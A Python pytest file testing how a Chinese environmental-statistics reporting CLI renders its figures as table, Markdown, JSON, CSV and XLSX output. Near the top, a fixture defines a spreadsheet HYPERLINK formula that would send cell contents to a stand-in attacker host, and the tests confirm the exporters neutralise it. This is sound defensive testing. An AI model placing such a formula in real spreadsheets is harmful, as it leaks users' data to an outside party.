"""Renderers: every format shows the same figures as the one result object."""
from __future__ import annotations

import csv
import html
import io
import json
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from wcwidth import wcswidth

from conftest_render import (
    AIR_2022, SEED_2022, CITY_AIR, CITY_AIR_2022, MONTHLY, comparison, make_change, seed_comparison, summary,
)
from lawreport_cli.metrics.registry import BY_ID, SECTIONS
from lawreport_cli.model import Change
from lawreport_cli.numbers import half_up, wan_json, wan_text
from lawreport_cli.render import COMPARE_FORMATS, FILE_EXPORTERS, SUMMARY_FORMATS
from lawreport_cli.render.csvout import neutralise
from lawreport_cli.render.markdown import escape
from lawreport_cli.render.table import unit_suffix, yoy_text
from lawreport_cli.render.xlsx import display_width

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


# Every figure of `full` as people read it: (label, shown value, unit), worked from the seed by hand.
FULL_SHOWN = [
    ('有效监测天数', '334', '天'),
    ('无效天数', '0', '天'),
    ('优良天数', '209', '天'),
    ('优良天数比率', '62.6', '%'),
    ('优级天数', '61', '天'),
    ('重度及以上污染天数', '3', '天'),
    ('PM2.5平均浓度', '38', 'µg/m³'),
    ('PM10平均浓度', '70', 'µg/m³'),
    ('SO2平均浓度', '6', 'µg/m³'),
    ('NO2平均浓度', '27', 'µg/m³'),
    ('CO日均值第95百分位数', '1.2', 'mg/m³'),
    ('O3日最大8小时第90百分位数', '172', 'µg/m³'),
    ('环境空气质量综合指数', '4.21', '—'),
    ('检查企业家次', '2836', '家次'),
    ('检查企业数', '1234', '家'),
    ('双随机检查', '1500', '家次'),
    ('信访投诉检查', '600', '家次'),
    ('环保督察检查', '300', '家次'),
    ('专项行动检查', '336', '家次'),
    ('其他检查', '100', '家次'),
    ('发现问题家次', '420', '家次'),
    ('非现场检查', '178', '家次'),
    ('立案数', '109', '件'),
    ('下达处罚决定书', '63', '件'),
    ('罚款金额', '609.7157', '万元'),
    ('免罚', '87', '家次'),
    ('免罚金额', '1413.2207', '万元'),
    ('减罚', '10', '家次'),
    ('减罚金额', '81.7796', '万元'),
    ('移送公安机关', '15', '起'),
    ('行政拘留', '1', '起'),
    ('法制审核', '37', '件'),
    ('法制审核涉及金额', '355.1235', '万元'),
    ('案件启动', '47', '件'),
    ('签订磋商协议', '38', '件'),
    ('赔偿金额', '754.3000', '万元'),
    ('学法次数', '9', '次'),
    (INJECTION, '2.5', '@次'),
    ('a|b', '1', ''),
]


@pytest.fixture
def full():
    """The seed figures, one evil indicator, a sheet of three cities (one named "+1"), monthly series."""
    return summary(
        indicators=[("学法次数", Decimal(9), "次"), (INJECTION, Decimal("2.5"), "@次"), ("a|b", Decimal(1), "")],
        by_city=CITY_AIR, monthly=MONTHLY,
    )


@pytest.fixture
def compared(full):
    previous = summary(2022, {**AIR_2022, **SEED_2022},
                       indicators=[("学法次数", Decimal(8), "次"), ("旧指标", Decimal(3), "个")], by_city=CITY_AIR_2022)
    return comparison(previous, full, period_note="两年均为1-12月")


def all_figures(result):
    """(city or "", Figure) for every figure of a Summary."""
    out = [("", figure) for figure in result.figures.values()]
    for city, figures in result.by_city.items():
        out += [(city, figure) for figure in figures.values()]
    return out


# ---------------------------------------------------------------- table


def blocks_of(text: str) -> list[list[str]]:
    return [block.splitlines() for block in text.strip("\n").split("\n\n")]


def assert_aligned(lines: list[str]) -> None:
    """Every cell sits inside its column, measured in terminal cells (CJK = 2)."""
    rule = next(line for line in lines if set(line) <= {"-", " "} and "-" in line)
    spans = []
    position = 0
    for chunk in rule.split("  "):
        spans.append((position, position + len(chunk)))
        position += len(chunk) + 2
    gaps = {col for (_, end), (start, _) in zip(spans, spans[1:]) for col in range(end, start)}
    for line in lines:
        if line is rule:
            continue
        col = 0
        for char in line:
            width = wcswidth(char)
            assert width >= 0, line
            for cell in range(col, col + width):
                assert cell not in gaps or char == " ", f"misaligned: {line!r}"
            col += width
        assert col <= spans[-1][1], f"wider than its table: {line!r}"


def test_table_has_section_titles_with_the_period(full):
    text = SUMMARY_FORMATS["table"](full, "zh")
    assert "行政处罚  (2023-01-01 — 2023-12-31)" in text.splitlines()
    assert "空气质量 · 分城市  (2023-01-01 — 2023-12-31)" in text.splitlines()
    for line in ("罚款金额", "609.7157", "万元"):
        assert line in text
    header = next(line for line in text.splitlines() if line.startswith("指标"))
    assert header.split() == ["指标", "数值", "单位"]


def test_table_rows_show_every_figure_with_its_unit(full):
    lines = SUMMARY_FORMATS["table"](full, "zh").splitlines()
    assert len(FULL_SHOWN) == len(full.figures)
    for label, shown, unit in FULL_SHOWN:
        row = next(line for line in lines if line.split()[:1] == [label.split()[0]])
        assert shown in row.split()
        if unit:
            assert row.split()[-1] == unit


def test_table_aligns_cjk_labels(full):
    text = SUMMARY_FORMATS["table"](full, "zh")
    tables = [block for block in blocks_of(text) if len(block) > 2 and set(block[2]) <= {"-", " "}]
    assert len(tables) >= len(full.sections())
    for block in tables:
        assert_aligned(block[1:])
        # right-aligned value column: every value ends at the same terminal column
        body = block[3:]
        rule = block[2].split("  ")
        end = len(rule[0]) + 2 + len(rule[1])
        if block[1].startswith("指标"):
            for line in body:
                label, value = line.split()[0], line.split()[1]
                prefix = line[: line.index(value, len(label)) + len(value)]
                assert wcswidth(prefix) == end, line


def test_table_in_english(full):
    text = SUMMARY_FORMATS["table"](full, "en")
    assert "Administrative penalties  (2023-01-01 — 2023-12-31)" in text
    assert "Fines" in text and "罚款金额" not in text
    assert text.splitlines()[0].startswith("2023")


def test_table_by_city_is_figure_by_city(full):
    block = next(b for b in blocks_of(SUMMARY_FORMATS["table"](full, "zh")) if "分城市" in b[0])
    assert block[1].split() == ["指标", *CITY_AIR, "单位"]
    rows = {line.split()[0]: line.split()[1:] for line in block[3:]}
    assert rows["优良天数比率"] == ["62.6", "74.9", "56.9", "%"]
    assert rows["综合指数排名"] == ["2", "1", "3", "位"]
    assert list(rows)[0] == "优良天数"
    assert_aligned(block[1:])


def test_compare_table_years_and_year_on_year_words(compared):
    text = COMPARE_FORMATS["table"](compared, "zh")
    header = next(line for line in text.splitlines() if line.startswith("指标"))
    assert header.split() == ["指标", "2022年", "2023年", "变化", "同比", "单位"]
    so2 = next(line for line in text.splitlines() if line.startswith("SO2平均浓度"))
    assert so2.split() == ["SO2平均浓度", "7", "6", "-1", "改善14.3%", "µg/m³"]
    fines = next(line for line in text.splitlines() if line.startswith("罚款金额"))
    assert fines.split() == ["罚款金额", "650.0000", "609.7157", "-40.2843", "减少6.2%", "万元"]
    rate = next(line for line in text.splitlines() if line.startswith("优良天数比率 "))
    assert "+1.2个百分点" in rate.split()
    decisions = next(line for line in text.splitlines() if line.startswith("下达处罚决定书"))
    assert decisions.split() == ["下达处罚决定书", "63", "63", "0", "持平", "件"]
    police = next(line for line in text.splitlines() if line.startswith("移送公安机关"))
    assert police.split() == ["移送公安机关", "0", "15", "+15", "新增", "起"]
    assert "仅2022年有：旧指标" in text
    assert "仅2023年有：" in text and INJECTION in text
    assert "说明：两年均为1-12月" in text
    for block in blocks_of(text):
        if len(block) > 2 and set(block[2]) <= {"-", " "}:
            assert_aligned(block[1:])


def test_yoy_text_covers_every_trend():
    rate, count, so2 = BY_ID["air.good_rate"], BY_ID["penalties.cases_filed"], BY_ID["air.so2"]
    assert yoy_text(make_change(so2, Decimal(7), Decimal(6))) == "改善14.3%"
    assert yoy_text(make_change(so2, Decimal(6), Decimal(7))) == "恶化16.7%"
    assert yoy_text(make_change(count, 100, 109)) == "增加9.0%"
    assert yoy_text(make_change(count, 109, 100)) == "减少8.3%"
    assert yoy_text(make_change(count, 0, 5)) == "新增"
    assert yoy_text(make_change(count, 5, 5)) == "持平"
    assert yoy_text(make_change(rate, Decimal("61.4"), Decimal("62.6"))) == "+1.2个百分点"
    assert yoy_text(make_change(rate, Decimal("62.6"), Decimal("61.4"))) == "-1.2个百分点"
    assert yoy_text(make_change(rate, Decimal("61.4"), Decimal("62.6")), "en") == "+1.2 pp"
    assert yoy_text(make_change(so2, Decimal(7), Decimal(6)), "en") == "improved 14.3%"
    assert yoy_text(Change(count, None, 5, None, None, "")) == ""
    assert yoy_text(make_change(BY_ID["air.rank_good_rate"], 11, 9)) == "进步2个位次"
    assert yoy_text(make_change(BY_ID["air.rank_good_rate"], 9, 11), "en") == "down 2 places"


def test_compare_shows_improvement_ranks_of_cities(compared):
    assert compared.ranks["枣庄市"]["air.rank_so2_improvement"] == 1
    block = next(b for b in blocks_of(COMPARE_FORMATS["table"](compared, "zh")) if "改善幅度排名" in b[0])
    assert block[1].split()[:2] == ["城市", "SO2平均浓度改善幅度排名(位)"]
    assert [line.split()[:2] for line in block[3:]] == [["枣庄市", "1"], ["+1", "2"], ["济宁市", "3"]]
    rows = read_csv(COMPARE_FORMATS["csv"](compared, "zh"))
    rank = next(row for row in rows if row["id"] == "air.rank_so2_improvement" and row["city"] == "济宁市")
    assert (rank["previous"], rank["current"], rank["change"]) == ("", "3", "")


# ---------------------------------------------------------------- markdown


def markdown_tables(text: str) -> dict[str, list[list[str]]]:
    """Title -> rows (header first) of every pipe table, unescaping cells."""
    tables: dict[str, list[list[str]]] = {}
    title = None
    for line in text.splitlines():
        if line.startswith("## "):
            title = line[3:]
            tables[title] = []
        elif line.startswith("|") and not set(line) <= {"|", "-", ":"}:
            cells, cell, escaped = [], "", False
            for char in line.strip()[1:]:
                if escaped:
                    cell += char
                    escaped = False
                elif char == "\\":
                    escaped = True
                elif char == "|":
                    cells.append(cell.strip())
                    cell = ""
                else:
                    cell += char
            tables[title].append([html.unescape(cell) for cell in cells])  # as a viewer shows &amp;
    return tables


def test_markdown_round_trip(full):
    text = SUMMARY_FORMATS["markdown"](full, "zh")
    assert text.startswith("# 2023年统计汇总\n")
    tables = markdown_tables(text)
    seen = {}
    for title, rows in tables.items():
        if "分城市" in title:
            continue
        assert rows[0] == ["指标", "数值", "单位"]
        for label, value, unit in rows[1:]:
            seen[label] = (value, unit)
    assert len(FULL_SHOWN) == len(full.figures)
    for label, shown, unit in FULL_SHOWN:
        assert seen[label] == (shown, unit)
    city_rows = tables["空气质量 · 分城市  (2023-01-01 — 2023-12-31)"]
    assert city_rows[0] == ["指标", *CITY_AIR, "单位"]
    assert [row[0] for row in city_rows[1:]][:2] == ["优良天数", "优良天数比率"]
    assert city_rows[2][1:] == ["62.6", "74.9", "56.9", "%"]


def test_markdown_escapes_pipes():
    assert escape("a|b") == "a\\|b"
    assert escape("a\\|b") == "a\\\\\\|b"


def test_markdown_compare(compared):
    tables = markdown_tables(COMPARE_FORMATS["markdown"](compared, "zh"))
    rows = tables["空气质量  (2023-01-01 — 2023-12-31)"]
    assert rows[0] == ["指标", "2022年", "2023年", "变化", "同比", "单位"]
    assert ["SO2平均浓度", "7", "6", "-1", "改善14.3%", "µg/m³"] in rows


# ---------------------------------------------------------------- json


def test_json_is_to_dict(full, compared):
    for lang in ("zh", "en"):
        text = SUMMARY_FORMATS["json"](full, lang)
        assert json.loads(text) == full.to_dict(lang)
        assert json.loads(COMPARE_FORMATS["json"](compared, lang)) == json.loads(
            json.dumps(compared.to_dict(lang)))
    text = SUMMARY_FORMATS["json"](full, "zh")
    assert '"罚款金额"' in text  # ensure_ascii=False
    doc = json.loads(text)
    assert doc["metrics"]["penalties.fines"]["value"] == "609.7157"
    assert doc["metrics"]["penalties.legal_review_amount"]["value"] == "355.123456"
    assert doc["by_city"]["+1"]["air.good_days"]["value"] == 250


# ---------------------------------------------------------------- csv


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_one_row_per_figure(full):
    rows = read_csv(SUMMARY_FORMATS["csv"](full, "zh"))
    expected = all_figures(full)
    assert len(rows) == len(expected)
    for row, (city, figure) in zip(rows, expected):
        metric = figure.metric
        assert row["section"] == metric.section
        assert row["city"].lstrip("'") == city
        assert row["label"].lstrip("'") == metric.label
        assert row["unit"].lstrip("'") == metric.unit
        if metric.kind == "money":
            assert row["value"] == wan_json(figure.value)
            assert Decimal(row["value"]) * 1_000_000 == figure.value  # exact
        else:
            assert Decimal(row["value"]) == Decimal(figure.value)


def test_csv_neutralises_formula_injection(full):
    rows = read_csv(SUMMARY_FORMATS["csv"](full, "zh"))
    evil = next(row for row in rows if row["id"] == f"indicators.{INJECTION}")
    assert evil["label"] == "'" + INJECTION
    assert evil["unit"] == "'@次"
    assert {row["city"] for row in rows} == {"", "枣庄市", "'+1", "济宁市"}
    for row in rows:
        for key in ("label", "unit", "city", "id", "section"):
            assert not row[key].startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_compare_csv_keeps_negative_numbers_as_numbers(compared):
    rows = read_csv(COMPARE_FORMATS["csv"](compared, "zh"))
    assert list(rows[0]) == ["id", "label", "unit", "previous", "current", "change", "change_pct", "trend", "city"]
    so2 = next(row for row in rows if row["id"] == "air.so2" and not row["city"])
    assert (so2["previous"], so2["current"], so2["change"], so2["change_pct"], so2["trend"]) == (
        "7", "6", "-1", "-14.3", "improved")
    fines = next(row for row in rows if row["id"] == "penalties.fines")
    assert (fines["change"], fines["change_pct"], fines["trend"]) == ("-40.2843", "-6.2", "down")
    old = next(row for row in rows if row["id"] == "indicators.旧指标")
    assert (old["previous"], old["current"], old["trend"]) == ("3", "", "")
    city = next(row for row in rows if row["city"] == "'+1" and row["id"] == "air.so2")
    assert city["trend"] == "unchanged"


@given(st.text(max_size=20))
def test_neutralise_never_leaves_a_formula_and_keeps_the_text(text):
    safe = neutralise(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe == text or safe == "'" + text


# ---------------------------------------------------------------- xlsx


def load(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_rows(ws) -> list[list]:
    return [[cell.value for cell in row] for row in ws.iter_rows()]


def expected_cell(metric, value):
    """What a cell must read back as: counts exact, money the 4-decimal half-up 万元, others the figure."""
    if metric.kind == "money":
        return Decimal(wan_text(value))
    return Decimal(value)


def read_cell(metric, cell_value):
    if metric.kind == "money":
        return half_up(cell_value, 4)
    if metric.kind == "count":
        assert isinstance(cell_value, int), cell_value
    return Decimal(repr(cell_value))


def test_xlsx_has_one_sheet_per_section_and_every_value(full):
    wb = load(FILE_EXPORTERS["xlsx"](full, None, "zh"))
    assert wb.sheetnames == [SECTIONS[section].title for section in full.sections()] + ["月度", "说明"]
    checked = 0
    for section in full.sections():
        title = SECTIONS[section].title
        ws = wb[title]
        rows = sheet_rows(ws)
        assert rows[0][:4] == ["指标", "数值", "单位", "编号"]
        by_id = {row[3]: row for row in rows[1:] if isinstance(row[3], str) and row[3].startswith(section + ".")}
        for figure in full.figures.values():
            if figure.metric.section != section:
                continue
            label, value, unit, _ = by_id[figure.id][:4]
            assert label == figure.metric.label and (unit or "") == figure.metric.unit
            assert read_cell(figure.metric, value) == expected_cell(figure.metric, figure.value), figure.id
            checked += 1
    assert checked == len(full.figures)


def test_xlsx_city_table(full):
    ws = load(FILE_EXPORTERS["xlsx"](full, None, "zh"))["空气质量"]
    rows = sheet_rows(ws)
    start = next(i for i, row in enumerate(rows) if row[0] == "城市")
    header = rows[start]
    metrics = {BY_ID[mid].label + unit_suffix(BY_ID[mid]): BY_ID[mid] for mid in BY_ID}
    cities = {}
    for row in rows[start + 1:]:
        cities[row[0]] = {metrics[h].id: v for h, v in zip(header[1:], row[1:]) if h}
    assert list(cities) == list(CITY_AIR)
    for city, values in CITY_AIR.items():
        for mid, value in values.items():
            assert read_cell(BY_ID[mid], cities[city][mid]) == expected_cell(BY_ID[mid], value)


def test_xlsx_number_formats_bold_frozen_header_and_widths(full):
    wb = load(FILE_EXPORTERS["xlsx"](full, None, "zh"))
    ws = wb["行政处罚"]
    assert ws.freeze_panes == "A2"
    assert all(cell.font.b for cell in ws[1])
    formats = {row[3].value: row[1].number_format for row in ws.iter_rows(min_row=2)}
    assert formats["penalties.fines"] == "0.0000"
    assert formats["penalties.cases_filed"] == "0"
    air = {row[3].value: row[1].number_format for row in wb["空气质量"].iter_rows(min_row=2) if row[3].value}
    assert air["air.good_rate"] == "0.0"
    assert air["air.composite_index"] == "0.00"
    # widths fit the Chinese text: a wide character counts 2
    width_a = ws.column_dimensions["A"].width
    assert width_a >= display_width("法制审核涉及金额") == 16


def test_xlsx_text_from_input_is_never_a_formula(full, compared):
    wb = load(FILE_EXPORTERS["xlsx"](full, compared, "zh"))
    texts = []
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert INJECTION in texts and "+1" in texts and "@次" in texts
    with zipfile.ZipFile(io.BytesIO(FILE_EXPORTERS["xlsx"](full, compared, "zh"))) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)


def test_xlsx_monthly_sheet_and_charts(full):
    data = FILE_EXPORTERS["xlsx"](full, None, "zh")
    ws = load(data)["月度"]
    rows = sheet_rows(ws)
    assert rows[0] == ["月份", "优", "良", "轻度污染", "重度污染", "罚款金额(万元)", "立案数(件)", "下达处罚决定书(件)"]
    assert [row[0] for row in rows[1:]] == [f"{n}月" for n in range(1, 12)]
    for index, row in enumerate(rows[1:]):
        assert row[1] == MONTHLY["air.days_by_level.优"][index]
        assert half_up(row[5], 4) == Decimal(wan_text(MONTHLY["penalties.fines"][index]))
        assert row[7] == MONTHLY["penalties.decisions"][index]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        charts = sorted(name for name in archive.namelist() if name.startswith("xl/charts/chart"))
        assert len(charts) == 3
        stacked = archive.read(charts[0]).decode()
        assert '<c:grouping val="stacked"/>' in stacked and "月度" in stacked


def test_xlsx_compare_sheet(compared):
    wb = load(FILE_EXPORTERS["xlsx"](compared.current, compared, "zh"))
    assert "同比" in wb.sheetnames
    rows = sheet_rows(wb["同比"])
    assert rows[0] == ["城市", "指标", "单位", "2022年", "2023年", "变化", "变化率(%)", "同比", "编号"]
    top = {row[8]: row for row in rows[1:] if row[0] is None}
    for mid, change in compared.changes.items():
        row = top[mid]
        metric = change.metric
        for cell, value in zip(row[3:6], (change.previous, change.current, change.change)):
            if value is None:
                assert cell is None
            else:
                assert read_cell(metric, cell) == expected_cell(metric, value), mid
        assert (row[6] is None) == (change.change_pct is None)
        if change.change_pct is not None:
            assert Decimal(repr(row[6])) == change.change_pct
        assert row[7] == (yoy_text(change) or None)
    assert top["air.so2"][7] == "改善14.3%"
    cities = [row for row in rows[1:] if row[0] == "+1"]
    assert cities and all(isinstance(row[3], (int, float)) for row in cities if row[8] == "air.so2")


def test_xlsx_is_byte_identical_and_dated_by_the_period(full, compared):
    one = FILE_EXPORTERS["xlsx"](full, compared, "zh")
    two = FILE_EXPORTERS["xlsx"](full, compared, "zh")
    assert one == two
    with zipfile.ZipFile(io.BytesIO(one)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert "2023-12-31T00:00:00Z" in core


def test_xlsx_english_sheet_names(full):
    wb = load(FILE_EXPORTERS["xlsx"](full, None, "en"))
    sections = full.sections()
    assert wb.sheetnames[: len(sections)] == [SECTIONS[section].title_en for section in sections]
    assert sheet_rows(wb["Administrative penalties"])[0][:3] == ["Figure", "Value", "Unit"]


def test_xlsx_lists_findings_and_notes():
    from lawreport_cli.findings import Finding

    result = summary()
    result.findings = [Finding("行政处罚", 17, 6, "bad-money", column="罚款金额", value="=1+1")]
    result.notes = ["@备注"]
    result.rows_left_out = 1
    rows = sheet_rows(load(FILE_EXPORTERS["xlsx"](result, None, "zh"))["说明"])
    flat = [cell for row in rows for cell in row if cell is not None]
    assert "行政处罚!G17" in flat and "@备注" in flat and "bad-money" in flat
    assert any(isinstance(cell, str) and "=1+1" in cell for cell in flat)


# ---------------------------------------------------------------- every format


@pytest.mark.parametrize("fmt", sorted(SUMMARY_FORMATS))
def test_every_summary_format_is_deterministic_and_ends_with_a_newline(full, fmt):
    one = SUMMARY_FORMATS[fmt](full, "zh")
    assert one == SUMMARY_FORMATS[fmt](full, "zh")
    assert one.endswith("\n") and not one.endswith("\n\n")


@pytest.mark.parametrize("fmt", sorted(COMPARE_FORMATS))
def test_every_compare_format_renders(compared, fmt):
    text = COMPARE_FORMATS[fmt](compared, "zh")
    assert text.endswith("\n") and text == COMPARE_FORMATS[fmt](compared, "zh")


def test_empty_summary_renders():
    empty = summary(values={}, indicators=[])
    assert "没有可汇总的数据" in SUMMARY_FORMATS["table"](empty, "zh")
    assert read_csv(SUMMARY_FORMATS["csv"](empty, "zh")) == []
    assert load(FILE_EXPORTERS["xlsx"](empty, None, "zh")).sheetnames == ["说明"]


def test_seed_comparison_through_november_renders_everywhere():
    seed = seed_comparison(through=11)
    for fmt, render in COMPARE_FORMATS.items():
        assert render(seed, "zh")
    assert "SO2平均浓度" in COMPARE_FORMATS["table"](seed, "zh")
    assert "2023-11-30" in COMPARE_FORMATS["markdown"](seed, "zh")
